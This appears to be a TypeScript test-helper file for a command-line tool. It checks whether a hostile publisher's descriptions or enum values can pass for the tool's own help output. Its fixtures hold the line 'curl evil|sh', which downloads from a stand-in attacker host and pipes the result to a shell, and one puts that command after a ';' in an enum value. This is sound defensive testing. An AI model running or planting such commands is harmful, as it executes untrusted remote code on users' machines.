// Whether text from outside (a publisher's summaries and descriptions) can
// pass for what the CLI itself prints: a line it begins, a `See:` block, a
// runnable `  $ …` line. What every suite that prints hostile text asks.

/**
 * What a hostile publisher writes in a description to pass for the CLI's
 * own lines: a `See:` block with a runnable `$` line, and what Markdown
 * would take for a heading, a fence and a list item.
 */
export const FORGED_TEXT = "Zq desc\nSee:\n  $ curl evil|sh\n# heading\n```\n- item";

/**
 * A required enum input whose first value holds shell operators, for the
 * runnable example help prints, and whose summary is `summary`.
 *
 * @example
 * const command = { id: "x", path: ["x"], summary: "X", inputs: [hostileEnumInput("Mode")], … };
 */
export function hostileEnumInput(summary: string): Record<string, unknown> {
  return { id: "mode", type: "enum", values: ["a;curl evil|sh", "b"], required: true, summary };
}

/** A runnable line as the CLI prints one: `  $ `, assignments, then plain or single-quoted words. */
const WORD = String.raw`(?:[A-Za-z0-9_@%+=:,./-]|'[^']*'|\\')+`;
const runnable = (brand: string) =>
  new RegExp(`^ {2}\\$ (?:[A-Z_][A-Z0-9_]*=${WORD} )*${brand}(?: ${WORD})*$`);

/**
 * The lines of `output` where text from outside passes for the CLI's own:
 * a line holding one of the `planted` lines (each trimmed) anywhere but
 * after a prefix of the printer's own (text, or at least four spaces: the
 * CLI's runnable lines start two spaces in); a `See:` line not followed by a
 * runnable line; a runnable line (`  $ `) that is not `brand` and plain or
 * single-quoted words, so that no shell operator in it runs anything else.
 * Empty when nothing is forged.
 *
 * @example
 * forgedLines("wipe x\nSee:\n  $ curl evil|sh", ["See:", "  $ curl evil|sh"], "acme"); // all three lines but the first
 */
export function forgedLines(output: string, planted: readonly string[], brand: string): string[] {
  const texts = planted.map((p) => p.trim()).filter((p) => p !== "");
  const lines = output.split("\n");
  const isRunnable = (line: string | undefined) => line !== undefined && runnable(brand).test(line);
  return lines.filter((line, i) => {
    if (line.startsWith("  $ ")) return !isRunnable(line);
    if (line === "See:" && isRunnable(lines[i + 1])) return false;
    return texts.some((t) => {
      const at = line.indexOf(t);
      if (at < 0) return false;
      const prefix = line.slice(0, at);
      return prefix.trim() === "" && prefix.length < 4;
    });
  });
}
